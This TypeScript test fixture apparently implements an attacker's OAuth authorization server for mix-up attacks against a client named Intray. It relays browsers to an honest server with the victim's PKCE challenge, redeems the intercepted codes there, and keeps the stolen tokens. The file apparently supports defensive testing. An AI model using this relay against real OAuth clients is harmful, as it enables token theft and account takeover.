/**
 * An attacker's authorization server for mix-up attacks: it sends browsers on to an honest one, under the client
 * that Intray has there, and redeems every code that it is given at the honest one's token endpoint.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export interface RelayingServer {
  issuer: string;
  hostAndPort: string;
  /** The path of every request, in order of arrival. */
  seen: string[];
  /** What the honest server answered to the codes. */
  stolen: Record<string, unknown>[];
  /** Intray's sign-in at the honest server, as its browser's address shows it. */
  target: URL | null;
  /** Sends browsers on with the redirect address of this server's own sign-in, not with the target's. */
  keepsRedirect: boolean;
  close(): Promise<void>;
}

export async function startRelayingServer(honest: string): Promise<RelayingServer> {
  const http = createServer(async (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? "/", server.issuer);
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const form = new URLSearchParams(String(Buffer.concat(chunks)));
    server.seen.push(pathname);
    const answer = (status: number, body: object) => {
      response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));
    };
    if (pathname === "/.well-known/oauth-authorization-server") return answer(200, metadata(server.issuer));
    if (pathname === "/reg") return answer(201, registration(form));
    if (pathname === "/auth" && server.target) {
      const onward = new URL(server.target);
      // The victim's challenge, so that Intray's own verifier redeems the code.
      for (const name of ["state", "code_challenge", ...(server.keepsRedirect ? ["redirect_uri"] : [])])
        onward.searchParams.set(name, searchParams.get(name) ?? "");
      return void response.writeHead(302, { location: onward.href }).end();
    }
    if (pathname === "/token" && server.target) {
      for (const name of ["client_id", "redirect_uri", "resource"])
        form.set(name, server.target.searchParams.get(name) ?? "");
      const redeemed = await fetch(`${honest}/token`, { method: "POST", body: form });
      server.stolen.push((await redeemed.json()) as Record<string, unknown>);
      return answer(200, { access_token: "of-no-use", token_type: "Bearer" });
    }
    answer(404, {});
  });
  await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
  const hostAndPort = `127.0.0.1:${(http.address() as AddressInfo).port}`;
  const server: RelayingServer = {
    issuer: `http://${hostAndPort}`,
    hostAndPort,
    seen: [],
    stolen: [],
    target: null,
    keepsRedirect: false,
    async close() {
      http.closeAllConnections();
      await new Promise((resolve) => http.close(resolve));
    },
  };
  return server;
}

function metadata(issuer: string) {
  return {
    issuer,
    authorization_endpoint: `${issuer}/auth`,
    token_endpoint: `${issuer}/token`,
    registration_endpoint: `${issuer}/reg`,
    response_types_supported: ["code"],
    code_challenge_methods_supported: ["S256"],
    token_endpoint_auth_methods_supported: ["none"],
  };
}

function registration(form: URLSearchParams) {
  const asked = JSON.parse([...form.keys()][0] ?? "{}") as Record<string, unknown>;
  return { ...asked, client_id: "a-client-of-the-attacker" };
}
